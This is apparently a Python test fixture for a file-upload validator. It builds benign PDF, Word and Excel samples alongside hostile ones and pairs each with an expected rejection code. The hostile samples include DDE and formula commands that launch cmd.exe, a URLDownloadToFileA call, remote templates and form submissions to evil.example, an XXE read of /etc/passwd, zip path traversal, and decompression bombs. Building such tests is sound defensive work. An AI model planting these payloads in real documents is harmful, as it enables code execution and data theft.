"""Documents that people send, and such as should not reach anybody: each with its verdict."""

import io
import zlib
from collections.abc import Callable
from zipfile import ZIP_LZMA, ZIP_STORED

from tests.backend import pictures
from tests.backend.papers_made import (
    EXCEL_MAIN,
    HEAD,
    OFFICE,
    W,
    body,
    docx,
    docx_and,
    docx_entries,
    docx_related,
    field,
    formula,
    image,
    objects_in_stream,
    packed,
    pdf,
    relations,
    stream,
    types,
    typeset,
    word_parts,
    written_xlsx,
    xlsx,
    xlsx_and,
    zipped,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
LOCKED = OLE + "EncryptedPackage".encode("utf-16-le") + bytes(1000)
JS = b"<</S/JavaScript/JS(app.alert(1))>>"
LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
FETCHED = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
EXCEL_MACRO_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DEEP = "<w:p>" * 500 + "</w:p>" * 500
PDF, DOCX, XLSX, KEPT = "PDF", "DOCX", "XLSX", ""
Made = Callable[[], bytes]


def scanned() -> bytes:
    out = io.BytesIO()
    pages = [pictures.gradient(600, 800), pictures.gradient(600, 800).rotate(180)]
    pages[0].save(out, "PDF", save_all=True, append_images=pages[1:])
    return out.getvalue()


def declared(text: str, name: str = "word/document.xml") -> bytes:
    inner = body().removeprefix(HEAD)
    return zipped(word_parts() | {name: f"{HEAD}{text}{inner}"})


def flipped(held: bytes) -> bytes:
    """One byte of the first entry's content."""
    at = held.index(b"PK\3\4", 10) - 5
    return held[:at] + bytes([held[at] ^ 0xFF]) + held[at + 1 :]


def with_flag(held: bytes) -> bytes:
    """Said to be encrypted, in every header."""
    found = bytearray(held)
    for sign, place in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = found.find(sign)
        while at >= 0:
            found[at + place] |= 1
            at = found.find(sign, at + 1)
    return bytes(found)


def large_gif() -> bytes:
    found = bytearray(pictures.written(pictures.gradient(mode="P"), "GIF"))
    found[6:10] = (30000).to_bytes(2, "little") * 2
    return bytes(found)


def many(number: int) -> bytes:
    return docx_entries(
        *((f"word/p{each}.xml", b"<a/>", ZIP_STORED, 0o644) for each in range(number))
    )


def odd_jpeg() -> bytes:
    return pictures.jpeg_of(65500, 65500)


def filled(number: int) -> str:
    return f"<w:p><w:r><w:t>{'x' * number}</w:t></w:r></w:p>"


def twice_packed() -> bytes:
    held = zlib.compress(zlib.compress(bytes(1 << 20)))
    return pdf(stream(b"/Filter[/FlateDecode/FlateDecode]", held))


GOOD: dict[str, tuple[str, Made]] = {
    "pdf": (PDF, pdf),
    "pdf of a typesetter": (PDF, typeset),
    "pdf of scans": (PDF, scanned),
    "pdf with objects in a stream": (PDF, lambda: pdf(objects_in_stream(b"<</A 1>>", b"[1 2]"))),
    "pdf in armour": (PDF, lambda: pdf(stream(b"/Filter[/ASCII85Decode/FlateDecode]",
                                              b"GhQ~>"[:0] + b"~>"))),
    "pdf with links": (PDF, lambda: pdf(b"<</S/URI/URI(https://www.redcross.org.cn/?a=\\)b)>>",
                                        b"<</S/URI/URI(mailto:a@b.example)>>")),
    "pdf that goes to its page": (PDF, lambda: pdf(catalog=b"/OpenAction[3 0 R/Fit]")),
    "pdf with a form": (PDF, lambda: pdf(catalog=b"/AcroForm<</Fields[]>>")),
    "pdf whose title speaks of /JS": (PDF, lambda: pdf(b"<</Title(all of /JS \\( and /XFA)>>")),
    "pdf whose texts are odd": (PDF, lambda: pdf(b"<</A(100% \\) /XFA (b) % /EF)/B(\\()>>",
                                             b"<</A<28>/B[(()) (%)]>>% obj (\n")),
    "pdf with a large scan": (PDF, lambda: pdf(image(4960, 7016, pictures.jpeg()))),
    "pdf with a scan that tells of another": (PDF, lambda: pdf(image(64, 48, pictures.jpeg(
        comment=b"\xff\xc0\0\x11\x08\xff\xff\xff\xff")))),
    "pdf whose page is packed": (PDF, lambda: pdf(packed(b"", b"BT (x) Tj ET " * 9999))),
    "word": (DOCX, docx),
    "word with picture and head": (DOCX, lambda: zipped(word_parts() | {
        "word/media/image1.png": pictures.png(), "word/media/image2.jpeg": pictures.jpeg(),
        "word/header1.xml": f'{HEAD}<w:hdr xmlns:w="{W}"/>',
        "word/_rels/document.xml.rels": relations(("image", "media/image1.png", False),
                                                  ("header", "header1.xml", False)),
        "docProps/core.xml": f"{HEAD}<c/>", "customXml/item1.xml": f"{HEAD}<c/>"})),
    "word with fields": (DOCX, lambda: docx(field(" PAGE ") + field("TO", 'C \\o "1-3"')
                                            + field("= 1 + 2") + '<w:fldSimple w:instr="DATE"/>')),
    "word with links": (DOCX, lambda: docx_related("hyperlink", "https://a.example/?x=1")),
    "word with a linked field": (DOCX, lambda: docx(field('HYPERLINK "https://a.example"'))),
    "word of one large text": (DOCX, lambda: docx(filled(6 << 20))),
    "word, not packed": (DOCX, lambda: zipped(word_parts(), ZIP_STORED)),
    "excel": (XLSX, xlsx),
    "excel of a program": (XLSX, written_xlsx),
    "excel with a printer's settings": (
        XLSX, lambda: xlsx_and("xl/printerSettings/printerSettings1.bin", bytes(3000))),
    "excel with formulas": (XLSX, lambda: formula('IF(A1&gt;2,"a|b",SUM(B1:B3))')),
}  # fmt: skip

BAD: dict[str, tuple[str, Made, str]] = {
    # another kind than was promised
    "a picture as pdf": (PDF, pictures.jpeg, "FILE_KIND"),
    "a page as pdf": (PDF, lambda: pictures.HTML, "FILE_KIND"),
    "word as pdf": (PDF, docx, "FILE_KIND"),
    "a pdf after a space": (PDF, lambda: b" " + pdf(), "FILE_KIND"),
    "a pdf after a page": (PDF, lambda: pictures.HTML + pdf(), "FILE_KIND"),
    "a pdf of another version": (PDF, lambda: pdf(version=b"9.9"), "FILE_KIND"),
    "a program as pdf": (PDF, lambda: b"MZ" + pdf(), "FILE_KIND"),
    "nothing as pdf": (PDF, lambda: b"\0", "FILE_KIND"),
    "a pdf as word": (DOCX, pdf, "FILE_KIND"),
    "excel as word": (DOCX, xlsx, "FILE_KIND"),
    "word as excel": (XLSX, docx, "FILE_KIND"),
    "old word": (DOCX, lambda: OLE, "FILE_KIND"),
    "old excel": (XLSX, lambda: OLE, "FILE_KIND"),
    "a plain archive": (DOCX, lambda: zipped({"a.txt": "x"}), "FILE_KIND"),
    "a template": (DOCX, lambda: docx(main=f"{OFFICE}wordprocessingml.template.main+xml"),
                   "FILE_KIND"),
    "slides as word": (DOCX, lambda: docx(main=f"{OFFICE}presentationml.presentation.main+xml"),
                       "FILE_KIND"),
    "rtf as word": (DOCX, lambda: b"{\\rtf1\\ansi{\\object\\objdata 0105}}", "FILE_KIND"),
    "a table as text": (XLSX, lambda: b"=cmd|'/c calc'!A1,2\n", "FILE_KIND"),
    "an archive of java": (DOCX, lambda: zipped({"META-INF/MANIFEST.MF": "x"}), "FILE_KIND"),
    "seven zip": (DOCX, lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99), "FILE_KIND"),
    # under a password
    "locked word": (DOCX, lambda: LOCKED, "FILE_ENCRYPTED"),
    "locked excel": (XLSX, lambda: LOCKED, "FILE_ENCRYPTED"),
    "locked archive": (DOCX, lambda: with_flag(docx()), "FILE_ENCRYPTED"),
    "locked pdf": (PDF, lambda: pdf(b"<</Filter/Standard/V 2>>", trailer=b"/Encrypt 5 0 R"),
                   "FILE_ENCRYPTED"),
    "locked pdf, spelt otherwise": (PDF, lambda: pdf(b"<<>>", trailer=b"/#45ncrypt 5 0 R"),
                                    "FILE_ENCRYPTED"),
    # programs
    "word with a macro": (DOCX, lambda: docx_and("word/vbaProject.bin", OLE), "FILE_PROGRAM"),
    "word with a macro in capitals": (DOCX, lambda: docx_and("word/VBAPROJECT.BIN", OLE),
                                      "FILE_PROGRAM"),
    "docm renamed": (DOCX, lambda: docx(main=MACRO_MAIN), "FILE_PROGRAM"),
    "xlsm renamed": (XLSX, lambda: xlsx(main=EXCEL_MACRO_MAIN), "FILE_PROGRAM"),
    "a macro under another name": (DOCX, lambda: docx_related("vbaProject", "styles.xml", False),
                                   "FILE_PROGRAM"),
    "excel with a sheet of macros": (
        XLSX, lambda: xlsx_and("[Content_Types].xml", types(
            EXCEL_MAIN, "xl/workbook.xml",
            ("xl/macrosheets/s1.xml", "application/vnd.ms-excel.macrosheet+xml"))),
        "FILE_PROGRAM"),
    "word with a ribbon": (DOCX, lambda: docx_and("customUI/customUI.xml", f"{HEAD}<customUI/>"),
                           "FILE_PROGRAM"),
    "word with a control": (DOCX, lambda: docx_and("word/activeX/activeX1.xml", f"{HEAD}<a/>"),
                            "FILE_PROGRAM"),
    "word that shows a control": (DOCX, lambda: docx("<w:control/>"), "FILE_PROGRAM"),
    "pdf with a script": (PDF, lambda: pdf(JS, catalog=b"/OpenAction 5 0 R"), "FILE_PROGRAM"),
    "pdf with a script spelt otherwise": (
        PDF, lambda: pdf(b"<</S/J#61v#61Script/#4aS(x)>>"), "FILE_PROGRAM"),
    "pdf with a script in a stream": (PDF, lambda: pdf(objects_in_stream(JS)), "FILE_PROGRAM"),
    "pdf with a script in a stream without a type": (
        PDF, lambda: pdf(packed(b"/N 1/First 4", JS)), "FILE_PROGRAM"),
    "pdf with a script in a tree": (
        PDF, lambda: pdf(catalog=b"/Names<</JavaScript<</Names[]>>>>"), "FILE_PROGRAM"),
    "pdf with a script behind a bracket": (
        PDF, lambda: pdf(b"<</A(>>", b"<</AA<</O<</JS 9 0 R>>>>>>"), "FILE_PROGRAM"),
    "pdf with a script in a plain stream": (PDF, lambda: pdf(stream(b"", JS)), "FILE_PROGRAM"),
    "pdf that starts a program": (PDF, lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "FILE_PROGRAM"),
    "pdf with a form of its own": (PDF, lambda: pdf(catalog=b"/AcroForm<</XFA 5 0 R>>"),
                                   "FILE_PROGRAM"),
    "word with an add-in": (
        DOCX, lambda: docx_related("webextensiontaskpanes", "webextensions/taskpanes.xml", False),
        "FILE_PROGRAM"),
    "pdf with a film": (PDF, lambda: pdf(b"<</Subtype/RichMedia>>"), "FILE_PROGRAM"),
    # files within
    "word with an object": (DOCX, lambda: docx_and("word/embeddings/oleObject1.bin", OLE),
                            "FILE_EMBEDS"),
    "word with a program": (DOCX, lambda: docx_and("word/media/a.exe", b"MZ" + bytes(99)),
                            "FILE_EMBEDS"),
    "word with a program as picture": (DOCX, lambda: docx_and("word/media/a.png", b"MZ" * 99),
                                       "FILE_EMBEDS"),
    "word with a page": (DOCX, lambda: docx_and("word/a.html", pictures.HTML), "FILE_EMBEDS"),
    "word with a page taken in": (DOCX, lambda: docx('<w:altChunk r:id="r1"/>'), "FILE_EMBEDS"),
    "word with a drawing that is a page": (DOCX, lambda: docx_and("word/media/a.svg", pictures.SVG),
                                           "FILE_EMBEDS"),
    "word within word": (DOCX, lambda: docx_and("word/embeddings/a.docx", docx()), "FILE_EMBEDS"),
    "word with an archive": (DOCX, lambda: docx_and("a.zip", pictures.zipped()), "FILE_EMBEDS"),
    "word with a font": (DOCX, lambda: docx_and("word/fonts/font1.odttf", bytes(99)),
        "FILE_EMBEDS"),
    "word with a related object": (
        DOCX, lambda: docx_related("oleObject", "styles.xml", False), "FILE_EMBEDS"),
    "excel with an object": (XLSX, lambda: xlsx_and("xl/embeddings/o.bin", OLE), "FILE_EMBEDS"),
    "excel with a program as settings": (
        XLSX, lambda: xlsx_and("xl/printerSettings/p.bin", b"MZ" + bytes(9)), "FILE_EMBEDS"),
    "excel with settings too large": (
        XLSX, lambda: xlsx_and("xl/printerSettings/p.bin", bytes(99_999)), "FILE_EMBEDS"),
    "pdf with a file": (PDF, lambda: pdf(stream(b"/Type/EmbeddedFile", b"MZ")), "FILE_EMBEDS"),
    "pdf with a file, hidden": (
        PDF, lambda: pdf(objects_in_stream(b"<</Type/Filespec/EF<</F 9 0 R>>>>")), "FILE_EMBEDS"),
    "pdf of many": (PDF, lambda: pdf(catalog=b"/Collection<</View/T>>"), "FILE_EMBEDS"),
    "pdf with an attachment": (PDF, lambda: pdf(b"<</Subtype/FileAttachment>>"), "FILE_EMBEDS"),
    "pdf that is an archive": (
        PDF, lambda: pdf(stream(b"", pictures.zipped("a.exe", pictures.EICAR))), "FILE_EMBEDS"),
    "pdf that is a page": (PDF, lambda: pdf(before=b"%<script>alert(1)</script>\n"), "FILE_EMBEDS"),
    "pdf that is a tape": (
        PDF, lambda: pdf(before=b"%" + b"x" * 247 + b"ustar\n"), "FILE_EMBEDS"),
    # what is elsewhere
    "word with a template elsewhere": (
        DOCX, lambda: docx_related("attachedTemplate", "https://evil.example/a.dotm"),
        "FILE_LINKS"),
    "word with a picture elsewhere": (
        DOCX, lambda: docx_related("image", "https://evil.example/a.png"), "FILE_LINKS"),
    "word with a share": (DOCX, lambda: docx_related("hyperlink", "file://evil.example/a"),
                          "FILE_LINKS"),
    "word with a handler": (DOCX, lambda: docx_related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
                            "FILE_LINKS"),
    "word with a frame": (DOCX, lambda: docx_related("frame", "https://evil.example"),
        "FILE_EMBEDS"),
    "word with a scheme inside": (
        DOCX, lambda: docx_related("image", "mhtml:http://evil.example!x", False), "FILE_LINKS"),
    "word with dde": (DOCX, lambda: docx(field(r'DDEAUTO c:\\cmd.exe "/k calc"')), "FILE_LINKS"),
    "word with dde in pieces": (DOCX, lambda: docx(field("DD", "EAU", "TO c:\\cmd.exe")),
                                "FILE_LINKS"),
    "word with dde made up": (DOCX, lambda: docx(field("QUOTE 68 68 69")), "FILE_LINKS"),
    "word with dde in one tag": (DOCX, lambda: docx('<w:fldSimple w:instr="DDE a b"/>'),
                                 "FILE_LINKS"),
    "word that takes a file in": (DOCX, lambda: docx(field(r"INCLUDETEXT \\evil\a.docx")),
                                  "FILE_LINKS"),
    "word that takes a picture in": (
        DOCX, lambda: docx(field('INCLUDEPICTURE "https://evil.example/a.png"')), "FILE_LINKS"),
    "word with a linked share": (DOCX, lambda: docx(field(r'HYPERLINK "\\evil.example\a"')),
                                 "FILE_LINKS"),
    "word of parts elsewhere": (DOCX, lambda: docx('<w:subDoc r:id="r1"/>'), "FILE_LINKS"),
    "excel with another book": (
        XLSX, lambda: xlsx_and("xl/externalLinks/externalLink1.xml", f"{HEAD}<a/>"), "FILE_LINKS"),
    "excel with a connection": (
        XLSX, lambda: xlsx_and("xl/_rels/workbook.xml.rels",
                               relations(("connections", "connections.xml", False))), "FILE_LINKS"),
    "excel with dde": (XLSX, lambda: formula("cmd|' /C calc'!A0"), "FILE_LINKS"),
    "excel that asks the web": (XLSX, lambda: formula('_xlfn.WEBSERVICE("https://evil.example")'),
                                "FILE_LINKS"),
    "excel that calls": (XLSX, lambda: formula('CALL("urlmon","URLDownloadToFileA")'),
        "FILE_LINKS"),
    "excel that registers": (XLSX, lambda: formula('REGISTER.ID("a","b")'), "FILE_LINKS"),
    "pdf that sends a form": (PDF, lambda: pdf(b"<</S/SubmitForm/F(http://evil.example)>>"),
                              "FILE_LINKS"),
    "pdf that opens another": (PDF, lambda: pdf(b"<</S/GoToR/F(//evil.example/a.pdf)>>"),
                               "FILE_LINKS"),
    "pdf with a script as address": (PDF, lambda: pdf(b"<</S/URI/URI(javascript:alert(1))>>"),
                                     "FILE_LINKS"),
    "pdf with a share as address": (
        PDF, lambda: pdf(b"<</S/URI/URI<" + b"file://evil".hex().encode() + b">>>"), "FILE_LINKS"),
    "pdf whose stream is elsewhere": (PDF, lambda: pdf(stream(b"/F(//evil.example/a)", b"")),
                                      "FILE_LINKS"),
    "excel with a column that asks the web": (
        XLSX, lambda: xlsx_and("xl/tables/table1.xml", f"{HEAD}<table><calculatedColumnFormula>"
                               "WEBSERVICE(A1)</calculatedColumnFormula></table>"), "FILE_LINKS"),
    "word that asks a database": (
        DOCX, lambda: docx_and("word/settings.xml", f'{HEAD}<w:settings xmlns:w="{W}"><w:mailMerge>'
                               '<w:connectString w:val="DSN=a"/></w:mailMerge></w:settings>'),
        "FILE_LINKS"),
    "word with a drawing from elsewhere": (
        DOCX, lambda: docx('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml"'
                           ' src="https://evil.example/a.png"/>'), "FILE_LINKS"),
    # bombs
    "word of a gigabyte": (DOCX, lambda: docx_and("word/a.xml", b"<a>" + bytes(70 << 20)),
                           "FILE_BROKEN"),
    "word of little that is much": (
        DOCX, lambda: docx(filled(12 << 20)), "FILE_BROKEN"),
    "word of laughs": (DOCX, lambda: declared(LAUGHS), "FILE_BROKEN"),
    "word that fetches an entity": (DOCX, lambda: declared(FETCHED), "FILE_BROKEN"),
    "word that fetches an entity beside": (DOCX, lambda: declared(FETCHED, "word/styles.xml"),
                                           "FILE_BROKEN"),
    "word without a bottom": (DOCX, lambda: docx(DEEP), "FILE_BROKEN"),
    "word of too many parts": (DOCX, lambda: many(3001), "FILE_BROKEN"),
    "word with a picture too large": (
        DOCX, lambda: docx_and("word/media/a.png", pictures.png_of(30000, 30000)),
        "TOO_MANY_PIXELS"),
    "word with a jpeg too large": (DOCX, lambda: docx_and("word/media/a.jpg", odd_jpeg()),
                                   "TOO_MANY_PIXELS"),
    "excel with a picture too large": (XLSX, lambda: xlsx_and("xl/media/a.gif", large_gif()),
                                       "TOO_MANY_PIXELS"),
    "pdf with a picture too large": (PDF, lambda: pdf(image(60000, 60000)), "TOO_MANY_PIXELS"),
    "pdf with a picture larger than it says": (PDF, lambda: pdf(image(10, 10, odd_jpeg())),
                                               "TOO_MANY_PIXELS"),
    "pdf with a picture of unknown size": (
        PDF, lambda: pdf(stream(b"/Subtype/Image/Width 9 0 R/Height 9 0 R", b"")), "FILE_BROKEN"),
    "pdf of a gigabyte": (PDF, lambda: pdf(*[packed(b"", bytes(90 << 20))] * 6), "FILE_BROKEN"),
    "pdf packed twice": (PDF, twice_packed, "FILE_BROKEN"),
    "pdf of objects without end": (
        PDF, lambda: pdf(packed(b"/Type/ObjStm/N 1/First 4", bytes(60 << 20))), "FILE_BROKEN"),
    # damaged, or made so that programs disagree
    "word cut": (DOCX, lambda: docx()[:-30], "FILE_BROKEN"),
    "word cut at half": (DOCX, lambda: docx()[: len(docx()) // 2], "FILE_BROKEN"),
    "word with a wrong sum": (DOCX, lambda: flipped(zipped(word_parts(), ZIP_STORED)),
                              "FILE_BROKEN"),
    "word with something before": (
        DOCX, lambda: b"PK\3\4" + docx(), "FILE_BROKEN"),
    "word with something behind": (DOCX, lambda: docx() + b"x", "FILE_BROKEN"),
    "word, then a page": (DOCX, lambda: docx() + pictures.HTML, "FILE_BROKEN"),
    "word with a comment": (
        DOCX, lambda: docx()[:-2] + b"\x04\0<a/>", "FILE_BROKEN"),
    "word with a part twice": (
        DOCX, lambda: docx_entries(("word/Document.xml", b"<a/>", ZIP_STORED, 0o644)),
        "FILE_BROKEN"),
    "word that climbs": (
        DOCX, lambda: docx_entries(("../../a.xml", b"<a/>", ZIP_STORED, 0o644)), "FILE_BROKEN"),
    "word with a backslash": (
        DOCX, lambda: docx_entries(("word\\a.xml", b"<a/>", ZIP_STORED, 0o644)), "FILE_BROKEN"),
    "word that points": (
        DOCX, lambda: docx_entries(("word/a.xml", b"/etc/passwd", ZIP_STORED, 0o120777)),
        "FILE_BROKEN"),
    "word packed oddly": (
        DOCX, lambda: docx_entries(("word/a.xml", b"<a/>", ZIP_LZMA, 0o644)), "FILE_BROKEN"),
    "word that is no xml": (DOCX, lambda: docx("<w:p>"), "FILE_BROKEN"),
    "word in an odd encoding": (
        DOCX, lambda: docx_and("word/a.xml", b'<?xml version="1.0" encoding="utf-7"?><a/>'),
        "FILE_BROKEN"),
    "pdf cut": (PDF, lambda: pdf()[:-40], "FILE_BROKEN"),
    "pdf cut at half": (PDF, lambda: pdf()[:200], "FILE_BROKEN"),
    "pdf of a head alone": (PDF, lambda: b"%PDF-1.7\n", "FILE_BROKEN"),
    "pdf, then a page": (PDF, lambda: pdf() + pictures.HTML, "FILE_EMBEDS"),
    "pdf, then a program": (PDF, lambda: pdf() + b"MZ" + bytes(99), "FILE_BROKEN"),
    "pdf that starts nowhere": (
        PDF, lambda: pdf().replace(b"startxref\n", b"startxref\n9"), "FILE_BROKEN"),
    "pdf with a stream without end": (
        PDF, lambda: pdf(b"<</Length 9>>stream\nabc"), "FILE_BROKEN"),
    "pdf with a damaged stream": (
        PDF, lambda: pdf(stream(b"/Filter/FlateDecode", b"abcdefgh")), "FILE_BROKEN"),
    "pdf with objects in an unknown packing": (
        PDF, lambda: pdf(stream(b"/Type/ObjStm/Filter/LZWDecode", b"abc")), "FILE_BROKEN"),
    "pdf with objects packed as told elsewhere": (
        PDF, lambda: pdf(stream(b"/Type/ObjStm/Filter 9 0 R", zlib.compress(JS))), "FILE_BROKEN"),
    "pdf with objects that are predicted": (
        PDF, lambda: pdf(packed(b"/Type/ObjStm/N 1/First 4/DecodeParms<</Predictor 12>>", JS)),
        "FILE_BROKEN"),
    "pdf with objects some would find": (
        PDF, lambda: pdf(stream(b"", b"9 0 obj<</Type/ObjStm>>")), "FILE_BROKEN"),
}  # fmt: skip
